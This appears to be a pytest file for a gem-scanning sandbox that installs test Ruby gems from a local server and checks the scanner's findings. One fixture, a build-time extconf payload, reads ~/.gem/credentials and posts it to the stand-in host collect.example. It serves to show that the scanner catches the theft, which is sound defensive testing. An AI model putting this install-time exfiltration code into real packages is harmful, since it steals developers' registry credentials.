"""Real gems through the gateway: gem and bundler in the box, a gem server as the host's configured source."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.gem_server import GemServer
from tests.support.hunter import scan_json
from tests.support.requires import needs_btf, needs_runc

_BEACON = """require "socket"
require "net/http"
Net::HTTP.post(URI("http://collect.example/gem"), File.read(File.expand_path("~/.gem/credentials")))
File.write("Makefile", "all:\\n\\ninstall:\\n\\nclean:\\n")
"""


@pytest.fixture
def server() -> Iterator[GemServer]:
    needs_btf()
    needs_runc()
    made = GemServer()
    made.add("quiet", "1.2.0", ("needed-one",))
    made.add("needed-one", "0.3.1")
    made.add("loud", "2.0.0", extconf=_BEACON)
    made.add("unrelated", "1.0.0")
    yield made
    made.close()


def _environment(server: GemServer, home: Path) -> dict[str, str]:
    """A user whose gem is set up for that server, which is reached through a proxy."""
    home.mkdir(exist_ok=True)
    home.joinpath(".gemrc").write_text(
        f"---\n:sources:\n- {server.source.replace('//', '//ci:hosts-own-secret@')}\n"
    )
    return {**os.environ, "HOME": str(home), "http_proxy": server.proxy}


def _names(report: dict[str, Any]) -> set[str]:
    return {package["purl"] for package in report["packages"]}


def test_bundler_installs_what_the_gemfile_needs_and_nothing_else_passes(
    server: GemServer, tmp_path: Path
) -> None:
    project = tmp_path / "shop"
    project.mkdir()
    # the public source, as most Gemfiles name it: it stands for what the host is set up for
    project.joinpath("Gemfile").write_text('source Gem.default_sources.first\ngem "quiet"\n')
    report = scan_json(project, env=_environment(server, tmp_path / "home"))
    assert _names(report) == {"pkg:gem/quiet@1.2.0", "pkg:gem/needed-one@0.3.1"}
    assert (report["verdict"], report["coverage"]["reasons"]) == ("no_findings", [])
    paths = {path.removeprefix(server.source) for path, _ in server.asked}
    assert {"versions", "info/quiet", "info/needed-one", "gems/quiet-1.2.0.gem"} <= paths
    assert not any("unrelated" in path for path in paths)
    assert {auth for _, auth in server.asked} == {"Basic Y2k6aG9zdHMtb3duLXNlY3JldA=="}


def test_a_gem_that_steals_while_it_builds_is_caught(server: GemServer, tmp_path: Path) -> None:
    report = scan_json("pkg:gem/loud@2.0.0", env=_environment(server, tmp_path / "home"), codes=(1,))
    (theft,) = [f for f in report["findings"] if f["kind"] == "exfiltration"]
    assert theft["blame"]["package"] == "pkg:gem/loud@2.0.0"
    assert report["verdict"] == "malicious"


_INSTALLS = """puts `gem install --no-document --install-dir /tmp/more quiet 2>&1`
puts `gem install --no-document --install-dir /tmp/more unrelated 2>&1`
File.write("Makefile", "all:\\n\\ninstall:\\n\\nclean:\\n")
"""


def test_gem_itself_installs_from_the_source_what_the_tree_names_and_no_more(
    server: GemServer, tmp_path: Path
) -> None:
    server.add("nested", "1.0.0", ("quiet",), extconf=_INSTALLS)
    report = scan_json("pkg:gem/nested@1.0.0", env=_environment(server, tmp_path / "home"), codes=(0, 1))
    ended = {
        p["cmdline"].rpartition(" ")[2]: p["exit_code"]
        for p in report["processes"]
        if "/tmp/more" in p["cmdline"]
    }
    assert ended["quiet"] == 0 and ended["unrelated"] not in (0, None)
    written = {change["path"] for change in report["files"]["written"]}
    assert any("/tmp/more/gems/needed-one-0.3.1" in path for path in written)  # what quiet needs came too
    (channel,) = [f for f in report["findings"] if f["kind"] == "registry_channel"]
    assert "unrelated" in str(channel) and not any("unrelated" in path for path, _ in server.asked)


def test_a_source_without_a_compact_index_is_told_and_accuses_nobody(
    server: GemServer, tmp_path: Path
) -> None:
    server.compact = False
    project = tmp_path / "shop"
    project.mkdir()
    project.joinpath("Gemfile").write_text(f'source "{server.source}"\ngem "quiet"\n')
    report = scan_json(project, env=_environment(server, tmp_path / "home"), codes=(4,))
    assert report["verdict"] == "inconclusive" and report["coverage"]["reasons"]
    assert not [f for f in report["findings"] if f["kind"] == "registry_channel"]
